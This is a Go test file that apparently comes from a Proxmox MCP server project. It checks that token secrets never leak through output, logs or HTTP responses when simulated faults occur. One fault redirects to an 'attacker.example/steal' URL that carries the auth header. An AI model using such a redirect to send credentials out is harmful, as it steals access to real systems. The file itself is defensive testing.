package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/proxmox-mcp/proxmox-mcp/gate"
	"github.com/proxmox-mcp/proxmox-mcp/pve/pvesim"
	"github.com/proxmox-mcp/proxmox-mcp/redact"
)

// hardSecret is a token secret as Proxmox makes them (a UUID: the command refuses any other shape), whose
// base64 differs at each alignment. Secrets whose URL and JSON escapes differ too are the redactor's own tests'
// (package redact), which must not depend on the UUID shape.
const (
	hardTokenID = "root@pam!mcp"
	hardSecret  = "c0ffee42-7f4e-4d2c-9b1a-3e5f6a7b8c9d"
	httpToken   = "http-bearer-0123456789abcdef"
)

// TestSecretsUnderPressure drives one server, over stdio and over HTTP at once, through every path a secret
// could leave by: Proxmox echoing the Authorization header (in a body, in a status line, in a redirect), a
// 5xx retried, a dropped write, notes holding the secret in several encodings, a tool argument named after
// it, a handler that panics and one that fails with it, a malformed JSON-RPC line carrying it, debug logging
// and the audit log. Then it greps everything the process wrote, stdout, stderr, the audit file and the HTTP
// bodies, for the secret and the HTTP bearer token in every encoding.
func TestSecretsUnderPressure(t *testing.T) {
	sim := pvesim.Serve(pvesim.New(pvesim.Default(), pvesim.WithToken(hardTokenID, hardSecret, pvesim.AdministratorPrivileges()...), pvesim.WithTaskDuration(10*time.Millisecond)))
	t.Cleanup(sim.Close)
	header := "PVEAPIToken=" + hardTokenID + "=" + hardSecret
	for _, form := range []string{hardSecret, url.QueryEscape(hardSecret), base64.StdEncoding.EncodeToString([]byte(hardSecret))} {
		if err := sim.SetGuestConfig(101, "description", "pasted by an admin: "+form); err != nil {
			t.Fatal(err)
		}
	}
	if err := sim.SetGuestConfig(102, "description", "token "+url.PathEscape(header)+"\n"+base64.URLEncoding.EncodeToString([]byte("x"+hardSecret))); err != nil {
		t.Fatal(err)
	}

	auditPath := filepath.Join(t.TempDir(), "audit.log")
	env := map[string]string{
		"PROXMOX_URL": sim.URL, "PROXMOX_TOKEN_ID": hardTokenID, "PROXMOX_TOKEN_SECRET": hardSecret,
		"PROXMOX_TLS_FINGERPRINT": sim.Fingerprint, "PROXMOX_ENABLE_DESTRUCTIVE": "1", "PROXMOX_LOG_LEVEL": "debug",
		"PROXMOX_AUDIT_LOG": auditPath, "PROXMOX_WAIT_SECONDS": "5", envHTTPToken: httpToken,
	}
	s, err := resolveArgs(t, nil, env)
	if err != nil {
		t.Fatal(err)
	}
	stderr := &lockedBuffer{}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	a, err := build(ctx, s, stderr)
	if err != nil {
		t.Fatal(err)
	}
	closed := false
	closeApp := func() {
		if !closed {
			closed = true
			a.Close()
		}
	}
	t.Cleanup(closeApp)
	addLeakyTool(t, a)

	// stdio: the server reads stdinR and writes stdoutW; every byte it writes is kept.
	stdinR, stdinW := io.Pipe()
	stdoutR, stdoutW := io.Pipe()
	served := make(chan error, 1)
	go func() { served <- serveStdio(ctx, a, stdinR, stdoutW, stderr); stdoutW.Close() }()
	// stdout is drained all the time: a pipe has no buffer, and the server answers lines we do not wait for.
	var stdout bytes.Buffer
	lines := make(chan []byte, 64)
	go func() {
		defer close(lines)
		r := bufio.NewReader(io.TeeReader(stdoutR, &stdout))
		for {
			line, err := r.ReadBytes('\n')
			if err != nil {
				return
			}
			lines <- line
		}
	}()
	id := 0
	rpc := func(method string, params any) json.RawMessage {
		t.Helper()
		id++
		b, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": id, "method": method, "params": params})
		if _, err := stdinW.Write(append(b, '\n')); err != nil {
			t.Fatal(err)
		}
		for {
			var line []byte
			select {
			case l, ok := <-lines:
				if !ok {
					t.Fatalf("%s: stdout closed", method)
				}
				line = l
			case <-time.After(timeLeft(t)):
				t.Fatalf("%s: no answer", method)
			}
			var msg struct {
				ID     *int            `json:"id"`
				Result json.RawMessage `json:"result"`
				Error  json.RawMessage `json:"error"`
			}
			if json.Unmarshal(line, &msg) == nil && msg.ID != nil && *msg.ID == id {
				if msg.Error != nil {
					return msg.Error
				}
				return msg.Result
			}
		}
	}
	call := func(tool string, args map[string]any) string {
		t.Helper()
		return string(rpc("tools/call", map[string]any{"name": tool, "arguments": args}))
	}
	rpc("initialize", map[string]any{"protocolVersion": mcp.LATEST_PROTOCOL_VERSION, "capabilities": map[string]any{},
		"clientInfo": map[string]any{"name": "secrets", "version": "1"}})

	// Each case plants its fault, makes its call, and says what the answer must show, so a case that stopped
	// reaching its path would fail instead of passing quietly.
	cases := []struct {
		name  string
		fault *pvesim.Fault
		tool  string
		args  map[string]any
		shows string
	}{
		{"proxy echoes the header in body and status line", &pvesim.Fault{Path: "/cluster/resources", Kind: pvesim.FaultEchoAuth, Times: 1},
			"proxmox_list_vms", nil, redact.Mask},
		{"503 quoting the header, retried then given up", &pvesim.Fault{Path: "/cluster/resources", Kind: pvesim.FaultStatus, Status: 503, Reason: "unavailable " + header},
			"proxmox_list_containers", nil, "503"},
		{"500 quoting the base64 header", &pvesim.Fault{Path: "/cluster/status", Kind: pvesim.FaultStatus, Status: 500, Times: 1,
			Reason: "bad auth " + base64.StdEncoding.EncodeToString([]byte(header))}, "proxmox_status", nil, "500"},
		{"redirect to a URL carrying the header", &pvesim.Fault{Path: "/nodes/pve1/qemu/100/snapshot", Kind: pvesim.FaultRedirect, Times: 1,
			Location: "https://attacker.example/steal?h=" + url.QueryEscape(header)}, "proxmox_list_snapshots", map[string]any{"vmid": 100}, "redirect"},
		{"write whose connection drops", &pvesim.Fault{Method: "POST", Path: "/nodes/pve2/lxc/201/status", Kind: pvesim.FaultDrop, Times: 1},
			"proxmox_stop_resource", map[string]any{"vmid": 201, "confirm": true}, "201"},
		{"write that succeeds (audit keeps the token id)", nil, "proxmox_stop_resource", map[string]any{"vmid": 202, "confirm": true}, "Done"},
		{"dry run whose parameters hold the secret", nil, "proxmox_snapshot_resource",
			map[string]any{"vmid": 100, "name": "s1", "description": "note " + hardSecret, "dry_run": true}, redact.Mask},
		{"destructive call with the secret as snapshot name", nil, "proxmox_delete_snapshot",
			map[string]any{"vmid": 100, "name": hardSecret, "confirm": true, "destructive": true}, "holds one of the server's secrets"},
		{"notes holding the secret raw, URL-encoded and base64", nil, "proxmox_get_resource", map[string]any{"vmid": 101}, redact.Mask},
		{"notes holding the escaped header and URL-safe base64", nil, "proxmox_get_resource", map[string]any{"vmid": 102}, redact.Mask},
		{"argument named after the secret", nil, "proxmox_get_resource", map[string]any{"vmid": 100, hardSecret: url.QueryEscape(hardSecret)}, "unknown"},
		{"write whose confirm is the secret itself", nil, "proxmox_start_resource", map[string]any{"vmid": 103, "confirm": hardSecret}, "got a string"},
		{"handler panics with the secret", nil, "proxmox_leaky", map[string]any{"mode": "panic"}, "internal error"},
		{"handler fails with the header", nil, "proxmox_leaky", map[string]any{"mode": "error"}, redact.Mask},
	}
	for _, c := range cases {
		if c.fault != nil {
			remove := sim.Inject(*c.fault)
			got := call(c.tool, c.args)
			remove()
			check(t, c.name, got, c.shows)
			continue
		}
		check(t, c.name, call(c.tool, c.args), c.shows)
	}
	// a malformed JSON-RPC line that carries the secret: mcp-go answers a parse error and may log it
	if _, err := stdinW.Write([]byte(`{"jsonrpc":"2.0","id":99,"method":"tools/call","params":` + hardSecret + "\n")); err != nil {
		t.Fatal(err)
	}
	rpc("ping", map[string]any{}) // the line above has been dealt with once this answers

	// The same server over streamable HTTP; every response body is kept.
	var httpBodies lockedBuffer
	h := newHTTPHandler(a.srv, httpPolicy{token: httpToken})
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.ServeHTTP(teeResponse{w, &httpBodies}, r)
	}))
	defer ts.Close()
	post := func(bearer, body string) (int, string) {
		req, _ := http.NewRequest("POST", ts.URL+"/mcp", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		req.Header.Set("Authorization", "Bearer "+bearer)
		res, err := ts.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}
	callBody := func(tool, args string) string {
		return `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"` + tool + `","arguments":` + args + `}}`
	}
	remove := sim.Inject(pvesim.Fault{Path: "/cluster/resources", Kind: pvesim.FaultEchoAuth, Times: 1})
	for _, c := range []struct{ bearer, tool, args, shows string }{
		{httpToken, "proxmox_list_vms", "{}", redact.Mask},
		{httpToken, "proxmox_leaky", `{"mode":"panic"}`, "internal error in proxmox_leaky"},
		{httpToken, "proxmox_leaky", `{"mode":"error"}`, redact.Mask},
	} {
		code, body := post(c.bearer, callBody(c.tool, c.args))
		remove() // only the first call meets the echoing proxy
		if code != 200 || !strings.Contains(body, c.shows) {
			t.Errorf("HTTP %s: status %d, answer does not show %q: %.300s", c.tool, code, c.shows, body)
		}
	}
	if code, _ := post(httpToken+"x", callBody("proxmox_list_vms", "{}")); code != 401 {
		t.Errorf("wrong bearer: status %d, want 401", code)
	}
	if !strings.Contains(httpBodies.String(), redact.Mask) {
		t.Errorf("HTTP answers show no masked secret, so the fault did not reach them: %s", httpBodies.String())
	}

	stdinW.Close()
	if err := <-served; err != nil {
		t.Fatalf("serve: %v", err)
	}
	for range lines { // until the reader has copied the last byte
	}
	closeApp() // flushes the log and the audit file
	audit, err := os.ReadFile(auditPath)
	if err != nil {
		t.Fatal(err)
	}

	outputs := map[string]string{"stdout": stdout.String(), "stderr": stderr.String(), "audit log": string(audit), "HTTP bodies": httpBodies.String()}
	for where, out := range outputs {
		for _, f := range secretForms(hardSecret, header, httpToken) {
			if i := strings.Index(out, f.text); i >= 0 {
				t.Errorf("%s holds the secret (%s) at %d: …%s…", where, f.name, i, out[max(0, i-60):min(len(out), i+len(f.text)+20)])
			}
		}
	}
	// The paths were really taken: the panic and debug lines were logged, writes were audited with the token id
	// readable (the secret named as a snapshot is refused as invalid, unsent and not echoed), and masks stand where
	// the secret was.
	for _, want := range []struct{ where, text string }{
		{"stderr", "tool handler panicked"}, {"stderr", `"level":"debug"`}, {"stderr", redact.Mask},
		{"audit log", hardTokenID}, {"audit log", "proxmox_stop_resource"}, {"audit log", `"decision":"invalid"`},
		{"stdout", redact.Mask},
	} {
		if !strings.Contains(outputs[want.where], want.text) {
			t.Errorf("%s does not show %q", want.where, want.text)
		}
	}
	t.Logf("checked %d cases over stdio and 4 over HTTP; bytes written: stdout %d, stderr %d, audit %d, HTTP %d; %d forms each",
		len(cases)+1, stdout.Len(), len(outputs["stderr"]), len(audit), len(outputs["HTTP bodies"]), len(secretForms(hardSecret, header, httpToken)))
}

func check(t *testing.T, name, got, shows string) {
	t.Helper()
	if !strings.Contains(got, shows) {
		t.Errorf("%s: answer does not show %q: %.600s", name, shows, got)
	}
}

// addLeakyTool registers, through the same gate and middleware as every tool, a read tool that panics with the
// secret or fails with the whole header: what a bug in a handler would do.
func addLeakyTool(t *testing.T, a *app) {
	t.Helper()
	tool := mcp.NewTool("proxmox_leaky", mcp.WithString("mode"))
	tool.Annotations = mcp.ToolAnnotation{} // the gate derives them from the tier
	tool, err := a.policy.Register(tool, gate.Read)
	if err != nil {
		t.Fatal(err)
	}
	a.srv.AddTool(tool, func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
		if req.GetString("mode", "") == "panic" {
			panic("leaky: " + hardSecret + " " + base64.StdEncoding.EncodeToString([]byte(hardSecret)))
		}
		return nil, fmt.Errorf("leaky: sent %s", "PVEAPIToken="+hardTokenID+"="+hardSecret)
	})
}

type secretForm struct{ name, text string }

// secretForms lists what must not appear: each secret raw, URL-escaped (query and path), JSON-escaped (with
// and without Go's HTML escaping), and base64 in both alphabets at every alignment (the part of the encoding
// that only the secret's bytes determine).
func secretForms(secrets ...string) []secretForm {
	var out []secretForm
	for _, s := range secrets {
		js, _ := json.Marshal(s)
		var plain bytes.Buffer
		enc := json.NewEncoder(&plain)
		enc.SetEscapeHTML(false)
		_ = enc.Encode(s)
		out = append(out,
			secretForm{"raw", s},
			secretForm{"query-escaped", url.QueryEscape(s)},
			secretForm{"path-escaped", url.PathEscape(s)},
			secretForm{"JSON", strings.Trim(string(js), `"`)},
			secretForm{"JSON without HTML escapes", strings.Trim(strings.TrimSpace(plain.String()), `"`)},
			secretForm{"Go-quoted", strings.Trim(strconv.Quote(s), `"`)},
			// a quoted value inside a JSON log line or result: escapes escaped once more
			secretForm{"Go-quoted, then JSON", jsonInner(strconv.Quote(s))},
			secretForm{"JSON, then JSON", jsonInner(string(js))},
		)
		if s == hardSecret {
			// a fragment is a leak too, and no redactor recognises one: the secret must not be cut and echoed
			out = append(out, secretForm{"fragment (head)", s[:7]}, secretForm{"fragment (tail)", s[len(s)-8:]})
		}
		for pad := 0; pad < 3; pad++ {
			for name, e := range map[string]*base64.Encoding{"base64": base64.StdEncoding, "base64url": base64.URLEncoding} {
				full := e.EncodeToString([]byte(strings.Repeat("a", pad) + s))
				// drop the characters that mix padding bytes or the end: 4 on each side is always enough
				if core := full[4 : len(full)-4]; len(core) >= 8 {
					out = append(out, secretForm{fmt.Sprintf("%s at alignment %d", name, pad), core})
				}
			}
		}
	}
	return out
}

// jsonInner is s JSON-encoded without its outer quotes (with a quoted s, the quotes of s stay, escaped; they
// are trimmed as well, so the form matches wherever the inner text appears).
func jsonInner(s string) string {
	b, _ := json.Marshal(s)
	return strings.TrimSuffix(strings.TrimPrefix(strings.Trim(string(b), `"`), `\"`), `\"`)
}

// teeResponse keeps a copy of everything written to a response.
type teeResponse struct {
	http.ResponseWriter
	copy io.Writer
}

func (w teeResponse) Write(p []byte) (int, error) {
	_, _ = w.copy.Write(p)
	return w.ResponseWriter.Write(p)
}

func (w teeResponse) Flush() {
	if f, ok := w.ResponseWriter.(http.Flusher); ok {
		f.Flush()
	}
}
